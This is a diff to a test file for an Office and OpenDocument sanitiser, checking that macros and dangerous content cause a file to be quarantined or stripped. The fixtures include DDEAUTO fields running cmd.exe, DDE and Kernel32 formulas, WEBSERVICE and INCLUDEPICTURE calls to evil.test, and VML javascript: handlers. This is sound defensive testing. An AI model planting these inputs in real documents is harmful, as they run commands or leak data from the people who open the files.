@@ -1,4 +1,4 @@
-"""Office and OpenDocument files: what runs or calls out holds the file, makers' marks go, text and links stay."""
+"""Office and OpenDocument files: macros hold the file, what else runs or calls out goes, text and links stay."""
 
 import io
 import zipfile
@@ -40,28 +40,146 @@ def is_held(found: Cleaning) -> bool:
     return found.details.get("refusal") == {"verdict": "quarantine", "reason": "active_content"}
 
 
+def parts_of(found: Cleaning) -> dict[str, bytes]:
+    assert "refusal" not in found.details
+    return read_members(found.data, LIMITS)
+
+
 @pytest.mark.parametrize(
     "data",
     [
         made.docx({"word/vbaProject.bin": OLE}, relations=made.relation("vbaProject", "vbaProject.bin")),
-        made.docx({"word/x.bin": OLE}, relations=made.relation("oleObject", "x.bin")),
-        made.docx({"word/picture.png": OLE}),
-        made.docx({"word/a.html": "<script>1</script>"}, relations=made.relation("aFChunk", "a.html")),
         made.docx(relations=made.relation("attachedTemplate", "https://evil.test/t.dotm", is_external=True)),
-        made.docx(relations=made.relation("frame", "https://evil.test/", is_external=True)),
-        made.docx(relations=made.relation("subDocument", "https://evil.test/", is_external=True)),
+        made.docx(relations=made.relation("attachedTemplate", "file://evil/t.dotm", is_external=True)),
         made.docx(document=word('<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe &quot;/k&quot; "/></w:p>')),
         made.docx(document=word(SPLIT_FIELD)),
-        made.docx(document=word('<w:p><w:fldSimple w:instr="INCLUDEPICTURE http://evil.test/x.png"/></w:p>')),
-        made.docx({"word/a.exe": "MZ"}),
-        sheet("WEBSERVICE(&quot;http://evil.test&quot;)"),
         sheet("cmd|' /c calc'!A0"),
         sheet("CALL(&quot;Kernel32&quot;,1)"),
         made.xlsx("<worksheet/>", {"xl/macrosheets/sheet1.xml": "<x/>"}),
     ],
 )  # fmt: skip
-def test_what_runs_or_calls_out_holds_the_file(data: bytes) -> None:
+def test_macros_commands_and_remote_templates_hold_the_file(data: bytes) -> None:
     assert is_held(office(data))
+
+
+SHAPE = '<w:object><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata r:id="rId5"/></v:shape>{}</w:object>'
+OLE_OBJECT = SHAPE.format('<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" r:id="rId9"/>')
+REMOTE_FIELD = (
+    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE</w:instrText></w:r>'
+    '<w:r><w:instrText>PICTURE "http://evil.test/x"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+    '<w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+)
+WORDS = "<w:p><w:r><w:t>Primary colour #0055AA</w:t></w:r></w:p>"
+
+
+@pytest.mark.parametrize(
+    ("extra", "body", "relation", "kind", "gone"),
+    [
+        ({"word/x.bin": OLE}, OLE_OBJECT, ("oleObject", "x.bin", False), "embedded_object", b"OLEObject"),
+        ({"word/x.docx": made.docx()}, OLE_OBJECT, ("package", "x.docx", False), "embedded_object", b"x.docx"),
+        ({"word/picture.png": OLE}, "", ("image", "picture.png", False), "embedded_object", b"picture.png"),
+        ({"word/a.html": "<script>1</script>"}, '<w:altChunk r:id="rId9"/>', ("aFChunk", "a.html", False),
+         "foreign part", b"altChunk"),
+        ({"word/activeX/a.xml": "<a/>"}, '<w:control r:id="rId9"/>', ("control", "activeX/a.xml", False), "activex",
+         b"w:control"),
+        ({"word/a.exe": "MZ"}, "", ("x", "a.exe", False), "program", b"a.exe"),
+        ({}, "", ("frame", "https://evil.test/", True), "external_link", b"evil"),
+        ({}, "", ("subDocument", "https://evil.test/", True), "external_link", b"evil"),
+        ({}, "", ("attachedTemplate", "file:///C:%5CUsers%5Cevil%5CBrand.dotx", True), "template link", b"evil"),
+        ({}, '<w:p><w:fldSimple w:instr="INCLUDEPICTURE http://evil.test/x.png"/></w:p>', None, "linked field",
+         b"evil"),
+        ({}, f"<w:p>{REMOTE_FIELD}</w:p>", None, "linked field", b"evil"),
+        ({}, '<w:p><w:fldSimple w:instr=" HYPERLINK &quot;file://evil/x&quot; "/></w:p>', None, "link", b"evil"),
+        ({"word/webextensions/x.xml": "<a/>"}, "", ("webextension", "webextensions/x.xml", False), "web extension",
+         b"x.xml"),
+    ],
+)  # fmt: skip
+def test_what_can_go_without_harm_to_the_rest_goes_and_is_told(
+    extra: dict[str, bytes | str], body: str, relation: tuple[str, str, bool] | None, kind: str, gone: bytes
+) -> None:
+    relations = made.relation(relation[0], relation[1], is_external=relation[2]) if relation else ""
+    found = office(made.docx(extra, word(WORDS + body), relations))
+    parts = parts_of(found)
+    assert (found.how, found.details["removed"][kind] >= 1) == ("sanitised", True)
+    assert b"Primary colour #0055AA" in parts["word/document.xml"]
+    assert not any(gone in name.encode() + content for name, content in parts.items())
+    assert office(found.data).data == found.data
+
+
+def test_the_picture_and_the_words_that_stand_for_what_went_stay() -> None:
+    parts = parts_of(office(made.docx({"word/x.bin": OLE}, word(OLE_OBJECT), made.relation("oleObject", "x.bin"))))
+    assert b"imagedata" in parts["word/document.xml"]
+    assert b">shown<" in parts_of(office(made.docx(document=word(REMOTE_FIELD))))["word/document.xml"]
+
+
+def test_a_slides_object_leaves_its_picture() -> None:
+    namespaces = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:r="x"'
+    slide = (
+        f"<p:sld {namespaces}><p:spTree><p:graphicFrame><p:oleObj><p:embed/><p:pic><p:t/></p:pic></p:oleObj>"
+        "</p:graphicFrame></p:spTree></p:sld>"
+    )
+    part = parts_of(office(made.docx(document=slide)))["word/document.xml"]
+    assert b"<p:spTree><p:pic><p:t/></p:pic></p:spTree>" in part
+
+
+@pytest.mark.parametrize(
+    ("formula", "kind"),
+    [
+        ("WEBSERVICE(&quot;http://evil.test&quot;)", "web formula"),
+        ("_xlfn.IMAGE(&quot;http://evil.test/x.png&quot;)", "web formula"),
+        ("HYPERLINK(&quot;file://evil/x&quot;,1)", "link"),
+    ],
+)
+def test_a_formula_that_calls_out_goes(formula: str, kind: str) -> None:
+    found = office(sheet(formula))
+    assert found.details["removed"] == {kind: 1}
+    assert b"evil" not in parts_of(found)["xl/worksheets/sheet1.xml"]
+
+
+VML = (
+    '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
+    'xmlns:x="urn:schemas-microsoft-com:office:excel">{}</xml>'
+)
+
+
+@pytest.mark.parametrize(
+    "shape",
+    [
+        '<v:shape><v:imagedata src="http://evil.test/x.png"/></v:shape>',
+        '<v:shape><v:imagedata o:href="http://evil.test/x.png"/></v:shape>',
+        '<v:shape><v:imagedata o:althref="file://evil/x"/></v:shape>',
+        '<v:shape><v:fill src="//evil/x.png"/></v:shape>',
+        '<v:shape><v:stroke src="evil.png"/></v:shape>',
+        '<v:shape href="javascript:evil()"/>',
+        '<v:shape href="file://evil/x"/>',
+        '<v:shape onclick="evil()"/>',
+        '<v:shape style="behavior:url(evil)"/>',
+        '<v:shape o:gfxdata="evil"/>',
+        "<v:shape><x:ClientData><x:FmlaMacro>evil</x:FmlaMacro></x:ClientData></v:shape>",
+    ],
+)  # fmt: skip
+def test_old_drawings_load_run_and_hide_nothing(shape: str) -> None:
+    rels = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f"{made.relation('vmlDrawing', '../drawings/d.vml')}</Relationships>"
+    )
+    extra: dict[str, bytes | str] = {
+        "xl/worksheets/_rels/sheet1.xml.rels": rels,
+        "xl/drawings/d.vml": VML.format(shape),
+    }
+    in_part = office(made.xlsx("<worksheet/>", extra))
+    in_text = office(made.docx(document=word(f"<w:p><w:r><w:pict>{VML.format(shape)}</w:pict></w:r></w:p>")))
+    for found, name in ((in_part, "xl/drawings/d.vml"), (in_text, "word/document.xml")):
+        assert found.details["removed"] == {"VML address": 1}
+        assert b"evil" not in parts_of(found)[name]
+
+
+def test_an_old_drawings_link_to_a_page_and_its_picture_stay() -> None:
+    shape = VML.format(
+        '<v:shape href="https://a.test/"><v:fill on="t"/><v:imagedata o:relid="rId1" r:id="rId1"/></v:shape>'
+    )
+    found = office(made.docx(document=word(f"<w:p><w:r><w:pict>{shape}</w:pict></w:r></w:p>")))
+    assert (found.how, found.details) == ("", {"parts": 3})
 
 
 def test_a_broken_part_with_a_command_is_held_too() -> None:
@@ -160,12 +278,36 @@ def test_a_charts_workbook_is_judged_like_a_file_of_its_own() -> None:
     "data",
     [
         made.odt({"Basic/Standard/Module1.xml": "<a/>"}),
-        made.odt(content='<text:p><script:event-listener xlink:href="vnd.sun.star.script:x"/></text:p>'),
-        made.odt({"Object 1": OLE}),
+        made.odt(content="<text:p><text:execute-macro/></text:p>"),
+        made.odt(content='<text:p><office:dde-source office:dde-application="cmd"/></text:p>'),
     ],
 )
 def test_an_open_document_that_runs_is_held(data: bytes) -> None:
     assert is_held(clean_opendocument(data, "", LIMITS))
+
+
+DRAW = "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"
+
+
+@pytest.mark.parametrize(
+    ("extra", "content", "kind"),
+    [
+        ({}, '<script:event-listener xlink:href="vnd.sun.star.script:evil"/>', "event listener"),
+        ({"Object 1": OLE + b"evil"}, "", "embedded_object"),
+        ({"Object 1": OLE}, f'<d:object-ole xmlns:d="{DRAW}" xlink:href="./Object evil"/>', "embedded_object"),
+        ({}, f'<d:applet xmlns:d="{DRAW}" xlink:href="evil"/>', "applet"),
+        ({}, f'<d:floating-frame xmlns:d="{DRAW}" xlink:href="http://evil"/>', "remote frame"),
+        ({}, '<text:section-source xlink:href="http://evil"/>', "remote section"),
+    ],
+)  # fmt: skip
+def test_an_open_document_loses_what_can_go_without_harm(
+    extra: dict[str, bytes | str], content: str, kind: str
+) -> None:
+    found = clean_opendocument(made.odt(extra, f"<text:p>Hello{content} you</text:p>"), "", LIMITS)
+    parts = parts_of(found)
+    assert (found.how, found.details["removed"][kind] >= 1) == ("sanitised", True)
+    assert b"Hello you" in parts["content.xml"]
+    assert not any(b"evil" in part or part.startswith(OLE[:4]) for part in parts.values())
 
 
 def test_an_open_document_loses_its_makers_marks() -> None:
